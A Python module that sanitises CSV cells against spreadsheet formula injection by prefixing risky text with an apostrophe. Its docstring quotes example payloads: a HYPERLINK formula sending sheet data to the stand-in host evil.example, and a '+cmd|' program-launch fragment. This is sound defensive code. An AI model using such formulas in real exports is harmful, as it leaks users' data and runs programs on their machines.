"""A CSV cell a spreadsheet will not run (OWASP "CSV injection"; docs/security.md, "Spreadsheets").

Excel, LibreOffice and Google Sheets read a cell starting with `=`, `+`, `-` or `@` (and some their
full-width forms) as a formula: `=HYPERLINK("https://evil.example/?x="&A1)` sends the sheet away,
`+cmd|...` runs a program. Text typed by users is written with a leading `'`, which spreadsheets
take as "this is text"; numbers the product writes (a longitude of -3.5) stay numbers. Every CSV
writer goes through `csv_cell`; static/js/map/export.js follows the same rule in the browser.
"""

from __future__ import annotations

from typing import Any

# Control characters that start a formula by themselves, and the characters that do after any
# leading whitespace (a spreadsheet may trim it on import).
CONTROL_STARTS = ("\t", "\r", "\n")
FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(value: Any) -> Any:
    """`value` as a CSV writer should write it: text a spreadsheet would run prefixed with `'`."""
    if not isinstance(value, str):
        return value
    if value.startswith(CONTROL_STARTS) or value.lstrip().startswith(FORMULA_STARTS):
        return "'" + value
    return value
